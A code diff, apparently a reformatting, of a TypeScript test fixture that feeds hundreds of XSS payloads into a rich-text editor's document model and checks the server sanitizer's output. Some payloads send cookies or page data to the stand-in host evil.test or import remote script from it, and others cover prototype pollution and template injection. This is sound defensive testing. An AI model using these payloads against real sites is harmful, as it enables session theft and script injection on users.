@@ -15,12 +15,12 @@ const SCRIPT_TAGS = [
   "<script/src=data:,alert(1)></script>",
   "<script>alert(String.fromCharCode(88,83,83))</script>",
   "<<script>alert(1);//<</script>",
-  "<script\x20type=\"text/javascript\">alert(1)</script>",
+  '<script\x20type="text/javascript">alert(1)</script>',
   "<script\x0dtype=text/javascript>alert(1)</script>",
   "<script\x0atype=text/javascript>alert(1)</script>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
   "</script><script>alert(1)</script>",
-  "\"><script>alert(1)</script>",
+  '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
   "--><script>alert(1)</script>",
   "]]><script>alert(1)</script>",
@@ -29,14 +29,14 @@ const SCRIPT_TAGS = [
   "</style><script>alert(1)</script>",
   "<script>document.location='https://evil.test/?c='+document.cookie</script>",
   "<script>fetch('/console').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.test',t))</script>",
-  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   "<template><script>alert(1)</script></template>",
   "<script type=module>import('https://evil.test/x.js')</script>",
 ];
 
 const EVENT_HANDLERS = [
   "<img src=x onerror=alert(1)>",
-  "<img src=x onerror=\"alert(1)\">",
+  '<img src=x onerror="alert(1)">',
   "<img src=\"x\" onerror='alert(1)'>",
   "<IMG SRC=x ONERROR=alert(1)>",
   "<img/src=x/onerror=alert(1)>",
@@ -44,7 +44,7 @@ const EVENT_HANDLERS = [
   "<img src onerror=alert(1)>",
   "<img src=x:x onerror=javascript:alert(1)>",
   "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
-  "<img src=x onerror=\"&#x61;lert(1)\">",
+  '<img src=x onerror="&#x61;lert(1)">',
   "<img src=x onerror\x0b=alert(1)>",
   "<img src=x onerror\x00=alert(1)>",
   "<img src=x oNeRrOr=alert(1)>",
@@ -65,7 +65,7 @@ const EVENT_HANDLERS = [
   "<p onclick=alert(1)>click</p>",
   "<a onmouseover=alert(1)>link</a>",
   "<span onpointerenter=alert(1)>x</span>",
-  "<div style=\"width:100%;height:100%\" onmousemove=alert(1)>",
+  '<div style="width:100%;height:100%" onmousemove=alert(1)>',
   "<iframe onload=alert(1)>",
   "<object onerror=alert(1)>",
   "<form onsubmit=alert(1)><button>go</button></form>",
@@ -84,7 +84,7 @@ const EVENT_HANDLERS = [
   "<svg><set onbegin=alert(1) attributename=x to=1>",
   "<x onclick=alert(1)>custom</x>",
   "<img src=x onerror=alert(1)//",
-  "<img src=\"x\"onerror=\"alert(1)\">",
+  '<img src="x"onerror="alert(1)">',
 ];
 
 const HOSTILE_URLS = [
@@ -141,15 +141,15 @@ const HOSTILE_URLS = [
   "//evil.test/x.js",
   "\\\\evil.test\\x",
   "/\\evil.test/x",
-  "https://evil.test/\"><script>alert(1)</script>",
+  'https://evil.test/"><script>alert(1)</script>',
   "https://evil.test/' onerror='alert(1)",
-  "https://evil.test/\" onmouseover=\"alert(1)",
-  "https://evil.test/x.png\" onerror=\"alert(1)",
+  'https://evil.test/" onmouseover="alert(1)',
+  'https://evil.test/x.png" onerror="alert(1)',
   "https://evil.test/?q=<script>alert(1)</script>",
   "https://user:pass@evil.test/",
   "https://evil.test/x.svg",
   "mailto:a@evil.test?body=<script>alert(1)</script>",
-  "mailto:\"><script>alert(1)</script>",
+  'mailto:"><script>alert(1)</script>',
   "http://evil.test/%0d%0aSet-Cookie:x=y",
   "https://xn--80ak6aa92e.com/",
   "https://evil.test/" + "a".repeat(5000),
@@ -168,37 +168,37 @@ const SVG_MATH_FRAMES = [
   "<math href=javascript:alert(1)>x</math>",
   "<math><mi xlink:href=data:x,<script>alert(1)</script>>",
   "<iframe src=javascript:alert(1)>",
-  "<iframe srcdoc=\"<script>alert(1)</script>\">",
-  "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<iframe src="data:text/html,<script>alert(1)</script>">',
   "<frameset><frame src=javascript:alert(1)>",
   "<object data=javascript:alert(1)>",
-  "<object data=\"data:text/html,<script>alert(1)</script>\">",
+  '<object data="data:text/html,<script>alert(1)</script>">',
   "<embed src=javascript:alert(1)>",
-  "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
   "<applet code=javascript:alert(1)>",
   "<base href=javascript:alert(1)//>",
   "<base href=https://evil.test/>",
   "<link rel=import href=https://evil.test/x.html>",
   "<link rel=stylesheet href=https://evil.test/x.css>",
-  "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-  "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
-  "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<meta http-equiv=refresh content="0;url=https://evil.test">',
+  '<meta http-equiv=Content-Security-Policy content="script-src *">',
   "<form action=javascript:alert(1)><input type=submit>",
   "<button formaction=javascript:alert(1)>go</button>",
   "<isindex action=javascript:alert(1) type=image>",
   "<a href=javascript:alert(1)>click</a>",
-  "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
+  '<a href="jav&#x09;ascript:alert(1)">click</a>',
   "<a href=data:text/html,<script>alert(1)</script>>click</a>",
   "<area href=javascript:alert(1)>",
   "<img src=javascript:alert(1)>",
   "<img dynsrc=javascript:alert(1)>",
   "<img lowsrc=javascript:alert(1)>",
-  "<img srcset=\"javascript:alert(1) 1x\">",
+  '<img srcset="javascript:alert(1) 1x">',
   "<picture><source srcset=javascript:alert(1)><img></picture>",
   "<video poster=javascript:alert(1)>",
   "<xss:script xmlns:xss=http://www.w3.org/1999/xhtml>alert(1)</xss:script>",
   "<portal src=https://evil.test>",
-  "<a href=\"https://evil.test\" target=_blank>tabnab</a>",
+  '<a href="https://evil.test" target=_blank>tabnab</a>',
   "<a href=https://evil.test ping=https://evil.test/track>ping</a>",
   "<img src=https://evil.test/x.png referrerpolicy=unsafe-url>",
 ];
@@ -206,16 +206,16 @@ const SVG_MATH_FRAMES = [
 const STYLE_TRICKS = [
   "<style>body{background:url(javascript:alert(1))}</style>",
   "<style>@import 'https://evil.test/x.css';</style>",
-  "<div style=\"background:url(javascript:alert(1))\">x</div>",
-  "<div style=\"width:expression(alert(1))\">x</div>",
-  "<div style=\"behavior:url(x.htc)\">x</div>",
-  "<div style=\"-moz-binding:url(https://evil.test/x.xml#xss)\">x</div>",
-  "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</p>",
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div style="behavior:url(x.htc)">x</div>',
+  '<div style="-moz-binding:url(https://evil.test/x.xml#xss)">x</div>',
+  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p>',
   "<span style=\"color:red;background-image:url('https://evil.test/track.png')\">x</span>",
-  "<img style=\"xss:expr/*XSS*/ession(alert(1))\">",
+  '<img style="xss:expr/*XSS*/ession(alert(1))">',
   "<link rel=stylesheet href=javascript:alert(1)>",
-  "<div class=\"fixed inset-0 z-50 bg-red-600\">fake dialog</div>",
-  "<span class=\"mention\" data-id=\"vendorUser:someone\">@CEO</span>",
+  '<div class="fixed inset-0 z-50 bg-red-600">fake dialog</div>',
+  '<span class="mention" data-id="vendorUser:someone">@CEO</span>',
 ];
 
 const ENTITY_TRICKS = [
@@ -232,11 +232,11 @@ const ENTITY_TRICKS = [
   "<!--<img src=x onerror=alert(1)>-->",
   "<!-- --!><img src=x onerror=alert(1)> -->",
   "<![CDATA[<script>alert(1)</script>]]>",
-  "<?xml version=\"1.0\"?><script>alert(1)</script>",
+  '<?xml version="1.0"?><script>alert(1)</script>',
   "<!DOCTYPE html><script>alert(1)</script>",
-  "<img src=\"x` `<script>alert(1)</script>\"` `>",
-  "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
-  "<a href=\"&#0106;avascript:alert(1)\">x</a>",
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<a href="&#x6A;avascript:alert(1)">x</a>',
+  '<a href="&#0106;avascript:alert(1)">x</a>',
   "<div>&lt;img src=x onerror=alert(1)&gt;</div>",
   "{{constructor.constructor('alert(1)')()}}",
   "${alert(1)}",
@@ -244,11 +244,11 @@ const ENTITY_TRICKS = [
   "<%= alert(1) %>",
   "{{7*7}}",
   "'';!--\"<XSS>=&{()}",
-  "\"><img src=x onerror=alert(1)>",
+  '"><img src=x onerror=alert(1)>',
   "'\"><svg/onload=alert(1)>",
-  "\" autofocus onfocus=\"alert(1)",
+  '" autofocus onfocus="alert(1)',
   "' autofocus onfocus='alert(1)",
-  "\" style=\"background:url(javascript:alert(1))",
+  '" style="background:url(javascript:alert(1))',
   "</p><script>alert(1)</script><p>",
   "</li></ul><script>alert(1)</script>",
   "</td></tr></table><script>alert(1)</script>",
@@ -257,7 +257,7 @@ const ENTITY_TRICKS = [
   "<script>\u2028alert(1)</script>",
   "<img src=x onerror=alert(1)\u2029>",
   "\uFEFF<script>alert(1)</script>",
-  "<a href=\"\u0001javascript:alert(1)\">x</a>",
+  '<a href="\u0001javascript:alert(1)">x</a>',
   "x".repeat(20_000),
   "<b>" + "<i>".repeat(2000) + "deep" + "</i>".repeat(2000) + "</b>",
 ];
@@ -288,9 +288,27 @@ export function combinedHostileDocument(payload: string): Json {
   return {
     type: "doc",
     content: [
-      { type: "paragraph", attrs: { style: payload, onclick: payload, class: payload }, content: [text(ok), { type: "mention", attrs: { id: "vendorUser:nobody", label: payload } }, { type: "mention", attrs: { id: payload, label: payload } }] },
-      { type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: ok, marks: [{ type: "bold", attrs: { onmouseover: payload } }, { type: "italic" }] }] },
-      { type: "table", content: [{ type: "tableRow", content: [cell("tableHeader")] }, { type: "tableRow", content: [cell("tableCell")] }] },
+      {
+        type: "paragraph",
+        attrs: { style: payload, onclick: payload, class: payload },
+        content: [
+          text(ok),
+          { type: "mention", attrs: { id: "vendorUser:nobody", label: payload } },
+          { type: "mention", attrs: { id: payload, label: payload } },
+        ],
+      },
+      {
+        type: "heading",
+        attrs: { level: 2 },
+        content: [{ type: "text", text: ok, marks: [{ type: "bold", attrs: { onmouseover: payload } }, { type: "italic" }] }],
+      },
+      {
+        type: "table",
+        content: [
+          { type: "tableRow", content: [cell("tableHeader")] },
+          { type: "tableRow", content: [cell("tableCell")] },
+        ],
+      },
       { type: "taskList", content: [{ type: "taskItem", attrs: { checked: true }, content: [paragraph(text(ok))] }] },
       { type: "codeBlock", attrs: { language: null }, content: [text(ok)] },
       { type: "blockquote", content: [paragraph({ type: "text", text: ok, marks: [{ type: "code" }] })] },
@@ -310,7 +328,16 @@ export function hostileDocuments(payload: string): Array<[place: string, doc: Js
   return [
     ["text", doc(paragraph(text(ok)))],
     ["link href", doc(paragraph({ type: "text", text: "link", marks: [{ type: "link", attrs: { href: payload } }] }))],
-    ["link href + target/rel/class", doc(paragraph({ type: "text", text: "link", marks: [{ type: "link", attrs: { href: payload, target: payload, rel: payload, class: payload } }] }))],
+    [
+      "link href + target/rel/class",
+      doc(
+        paragraph({
+          type: "text",
+          text: "link",
+          marks: [{ type: "link", attrs: { href: payload, target: payload, rel: payload, class: payload } }],
+        }),
+      ),
+    ],
     ["image src", doc({ type: "image", attrs: { src: payload, alt: payload, title: payload } })],
     ["image alt and title", doc({ type: "image", attrs: { src: "https://images.example.test/a.png", alt: payload, title: payload } })],
     ["mention label", doc(paragraph({ type: "mention", attrs: { id: "vendorUser:nobody", label: payload } }))],
@@ -322,19 +349,55 @@ export function hostileDocuments(payload: string): Array<[place: string, doc: Js
       doc({
         type: "table",
         content: [
-          { type: "tableRow", content: [{ type: "tableHeader", attrs: { colspan: 1, rowspan: 1, colwidth: null }, content: [paragraph(text(ok))] }] },
-          { type: "tableRow", content: [{ type: "tableCell", attrs: { colspan: payload, rowspan: 1, colwidth: [payload] }, content: [paragraph(text(ok))] }] },
+          {
+            type: "tableRow",
+            content: [{ type: "tableHeader", attrs: { colspan: 1, rowspan: 1, colwidth: null }, content: [paragraph(text(ok))] }],
+          },
+          {
+            type: "tableRow",
+            content: [{ type: "tableCell", attrs: { colspan: payload, rowspan: 1, colwidth: [payload] }, content: [paragraph(text(ok))] }],
+          },
         ],
       }),
     ],
     ["task item", doc({ type: "taskList", content: [{ type: "taskItem", attrs: { checked: payload }, content: [paragraph(text(ok))] }] })],
     ["code block language", doc({ type: "codeBlock", attrs: { language: payload }, content: [text(ok)] })],
-    ["ordered list start", doc({ type: "orderedList", attrs: { start: payload, type: payload }, content: [{ type: "listItem", content: [paragraph(text(ok))] }] })],
+    [
+      "ordered list start",
+      doc({
+        type: "orderedList",
+        attrs: { start: payload, type: payload },
+        content: [{ type: "listItem", content: [paragraph(text(ok))] }],
+      }),
+    ],
     ["unknown node", doc({ type: "script", content: [text(ok)] }, { type: "html", attrs: { html: payload } })],
-    ["unknown mark", doc(paragraph({ type: "text", text: "x", marks: [{ type: "script", attrs: { src: payload } }, { type: "textStyle", attrs: { style: payload } }] }))],
-    ["unknown attributes", doc({ type: "paragraph", attrs: { style: payload, onclick: payload, class: payload, id: payload }, content: [text("x")] })],
-    ["raw HTML attributes on text", doc(paragraph({ type: "text", text: "x", attrs: { onclick: payload }, marks: [{ type: "bold", attrs: { onmouseover: payload } }] }))],
-    ["prototype pollution", JSON.parse(`{"type":"doc","__proto__":{"polluted":${JSON.stringify(payload)}},"constructor":{"prototype":{"polluted":true}},"content":[{"type":"paragraph","__proto__":{"type":"script"},"content":[{"type":"text","text":${JSON.stringify(ok)}}]}]}`) as Json],
+    [
+      "unknown mark",
+      doc(
+        paragraph({
+          type: "text",
+          text: "x",
+          marks: [
+            { type: "script", attrs: { src: payload } },
+            { type: "textStyle", attrs: { style: payload } },
+          ],
+        }),
+      ),
+    ],
+    [
+      "unknown attributes",
+      doc({ type: "paragraph", attrs: { style: payload, onclick: payload, class: payload, id: payload }, content: [text("x")] }),
+    ],
+    [
+      "raw HTML attributes on text",
+      doc(paragraph({ type: "text", text: "x", attrs: { onclick: payload }, marks: [{ type: "bold", attrs: { onmouseover: payload } }] })),
+    ],
+    [
+      "prototype pollution",
+      JSON.parse(
+        `{"type":"doc","__proto__":{"polluted":${JSON.stringify(payload)}},"constructor":{"prototype":{"polluted":true}},"content":[{"type":"paragraph","__proto__":{"type":"script"},"content":[{"type":"text","text":${JSON.stringify(ok)}}]}]}`,
+      ) as Json,
+    ],
   ];
 }
 
@@ -350,12 +413,58 @@ type Parse5Node = {
 
 /** What stored rich text may contain: the server's sanitizer allowlist (app/rich-text/rich-text.server.ts). */
 const STORED_TAGS = new Set([
-  "p", "br", "h1", "h2", "h3", "strong", "em", "u", "s", "code", "pre", "blockquote", "hr", "ul", "ol", "li", "a", "img",
-  "table", "thead", "tbody", "tr", "th", "td", "colgroup", "col", "span", "label", "input", "div",
+  "p",
+  "br",
+  "h1",
+  "h2",
+  "h3",
+  "strong",
+  "em",
+  "u",
+  "s",
+  "code",
+  "pre",
+  "blockquote",
+  "hr",
+  "ul",
+  "ol",
+  "li",
+  "a",
+  "img",
+  "table",
+  "thead",
+  "tbody",
+  "tr",
+  "th",
+  "td",
+  "colgroup",
+  "col",
+  "span",
+  "label",
+  "input",
+  "div",
 ]);
-const URL_ATTRIBUTES = new Set(["href", "src", "xlink:href", "action", "formaction", "srcset", "poster", "data", "background", "ping", "srcdoc", "dynsrc", "lowsrc"]);
+const URL_ATTRIBUTES = new Set([
+  "href",
+  "src",
+  "xlink:href",
+  "action",
+  "formaction",
+  "srcset",
+  "poster",
+  "data",
+  "background",
+  "ping",
+  "srcdoc",
+  "dynsrc",
+  "lowsrc",
+]);
 // Browsers drop ASCII tabs and newlines anywhere in a URL and leading control characters and spaces.
-const normaliseUrl = (value: string) => value.replace(/[\t\n\r]/g, "").replace(/^[\p{Cc} ]+/u, "").toLowerCase();
+const normaliseUrl = (value: string) =>
+  value
+    .replace(/[\t\n\r]/g, "")
+    .replace(/^[\p{Cc} ]+/u, "")
+    .toLowerCase();
 const DANGEROUS_SCHEME = /^(javascript|vbscript|data|livescript|mocha):/;
 
 function* elements(node: Parse5Node): Generator<Parse5Node> {
@@ -368,7 +477,8 @@ function attributeProblems(element: Parse5Node): string[] {
   const problems: string[] = [];
   for (const { name, value } of element.attrs ?? []) {
     if (name.toLowerCase().startsWith("on")) problems.push(`<${element.tagName} ${name}=…>`);
-    if (URL_ATTRIBUTES.has(name.toLowerCase()) && DANGEROUS_SCHEME.test(normaliseUrl(value))) problems.push(`<${element.tagName} ${name}="${value.slice(0, 60)}">`);
+    if (URL_ATTRIBUTES.has(name.toLowerCase()) && DANGEROUS_SCHEME.test(normaliseUrl(value)))
+      problems.push(`<${element.tagName} ${name}="${value.slice(0, 60)}">`);
   }
   return problems;
 }
@@ -387,7 +497,8 @@ export async function storedHtmlProblems(html: string): Promise<string[]> {
     problems.push(...attributeProblems(element));
     for (const { name, value } of element.attrs ?? []) {
       if (name === "style") problems.push(`<${tag} style>`);
-      if ((name === "href" || name === "src") && !/^(https?:\/\/|mailto:|\/(?![/\\]))/i.test(value)) problems.push(`<${tag} ${name}="${value.slice(0, 60)}">`);
+      if ((name === "href" || name === "src") && !/^(https?:\/\/|mailto:|\/(?![/\\]))/i.test(value))
+        problems.push(`<${tag} ${name}="${value.slice(0, 60)}">`);
     }
     if (tag === "input") {
       const attributes = new Map((element.attrs ?? []).map(({ name, value }) => [name, value]));
@@ -405,11 +516,16 @@ export async function pageHtmlProblems(html: string): Promise<string[]> {
   const { parse } = await import("parse5");
   const problems: string[] = [];
   const all = [...elements(parse(html) as unknown as Parse5Node)];
-  const nonces = new Set(all.filter((element) => element.tagName === "script").map((element) => element.attrs?.find((attribute) => attribute.name === "nonce")?.value));
+  const nonces = new Set(
+    all
+      .filter((element) => element.tagName === "script")
+      .map((element) => element.attrs?.find((attribute) => attribute.name === "nonce")?.value),
+  );
   if (nonces.has(undefined) || nonces.size > 1) problems.push(`scripts with nonces ${[...nonces].join(", ")}`);
   for (const element of all) {
     problems.push(...attributeProblems(element));
-    if (["iframe", "object", "embed", "frame", "base", "meta"].includes(element.tagName!) && !isPageMeta(element)) problems.push(`<${element.tagName}>`);
+    if (["iframe", "object", "embed", "frame", "base", "meta"].includes(element.tagName!) && !isPageMeta(element))
+      problems.push(`<${element.tagName}>`);
   }
   return problems;
 }
